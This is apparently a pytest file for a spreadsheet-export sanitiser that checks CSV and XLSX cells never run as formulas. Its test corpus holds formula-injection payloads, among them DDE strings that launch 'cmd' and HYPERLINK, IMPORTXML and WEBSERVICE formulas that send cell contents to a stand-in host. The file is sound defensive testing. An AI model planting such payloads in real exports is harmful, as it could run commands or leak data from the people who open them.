"""No cell that leaves is run by a spreadsheet: a corpus of what has been tried, and whatever hypothesis finds."""

import csv
import io
import shutil
import subprocess
import unicodedata
from itertools import product
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from hustings.lib.inert_cells import MARK, inert, write_csv, write_xlsx

BEGINNINGS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "−", "–", "⁺", "₌"]
BEFORE = [
    "",
    " ",
    "  ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\u00a0",
    "\u2003",
    "\u3000",
    "\u200b",
    "\ufeff",
    "\u00ad",
    "\x00",
    "\x1b",
]
PAYLOADS = [
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://elsewhere.example/?x="&A1,"open")',
    '=IMPORTXML(CONCAT("https://elsewhere.example/?v=",A2),"//a")',
    '=WEBSERVICE("https://elsewhere.example/"&A1)',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "=1+1",
    '=DDE("cmd";"/C calc";"x")',
    '=RTD("x",,"y")',
    "Okafor\n=1+1",
    'x","=1+1',
    "x;=1+1",
    "x\t=1+1",
]
CORPUS = [f"{before}{begins}1+1" for before, begins in product(BEFORE, BEGINNINGS)] + PAYLOADS
HARMLESS = [
    "Okafor",
    "O'Brien",
    "12A Mill Lane",
    "AA1-124/1",
    "Łukasz",
    "x=y",
    "a@b.example",
    "07:30",
    "",
    "王",
]


def runs(cell: str) -> bool:
    """A spreadsheet's own question, asked without our code: does the first thing that shows begin a formula?"""
    shown = unicodedata.normalize("NFKC", cell).strip().lstrip("\u200b\ufeff\u00ad\x00\x1b")
    return shown[:1] in set("=+-@−–")


def test_the_corpus_is_large_enough() -> None:
    assert len(CORPUS) >= 200


@pytest.mark.parametrize("cell", CORPUS, ids=range(len(CORPUS)))
def test_nothing_of_the_corpus_would_run(cell: str) -> None:
    assert not runs(inert(cell))
    assert not any(inert(cell).count(letter) for letter in "\t\r\n\x00")


@pytest.mark.parametrize("cell", HARMLESS)
def test_what_is_harmless_stays_as_it_is(cell: str) -> None:
    assert inert(cell) == cell


@given(st.text(max_size=30))
def test_whatever_is_written_does_not_run_and_is_marked_once(cell: str) -> None:
    once = inert(cell)

    assert not runs(once)
    assert inert(once) == once


def test_a_csv_reads_back_as_the_same_inert_cells() -> None:
    rows = [[cell, "beside"] for cell in CORPUS]

    read = list(csv.reader(io.StringIO(b"".join(write_csv(rows)).decode("utf-8-sig"))))

    assert read == [[inert(cell), "beside"] for cell in CORPUS]


def test_no_other_separator_takes_a_cell_apart() -> None:
    text = b"".join(write_csv([[cell] for cell in PAYLOADS])).decode("utf-8-sig")

    for separator in (";", "\t"):
        cells = [cell for row in csv.reader(io.StringIO(text), delimiter=separator) for cell in row]
        assert not any(runs(cell) for cell in cells)


def test_a_workbook_reads_back_without_a_formula() -> None:
    book = load_workbook(io.BytesIO(write_xlsx([[cell, 7] for cell in CORPUS], name="A/B: [x]")))

    cells = [cell for row in book.worksheets[0].iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} <= {"inlineStr", "s", "n"}
    assert [cell.value for cell in cells[::2]] == [inert(cell) for cell in CORPUS]
    assert not any(str(cell.value).startswith("=") for cell in cells)


OFFICE = shutil.which("soffice")


@pytest.mark.skipif(OFFICE is None, reason="LibreOffice is not on this machine")
def test_libreoffice_runs_nothing_of_it(tmp_path: Path) -> None:
    (tmp_path / "corpus.xlsx").write_bytes(write_xlsx([[cell] for cell in CORPUS], name="corpus"))
    subprocess.run(
        [str(OFFICE), "--headless", "--convert-to", "csv", "--outdir", tmp_path, tmp_path / "corpus.xlsx"],
        check=True, capture_output=True, timeout=120,
    )  # fmt: skip

    read = list(csv.reader((tmp_path / "corpus.csv").open(encoding="utf-8")))

    assert [row[0] for row in read if row] == [inert(cell) for cell in CORPUS]


def test_the_mark_is_what_spreadsheets_take_for_text() -> None:
    assert (MARK, inert("=1")) == ("'", "'=1")
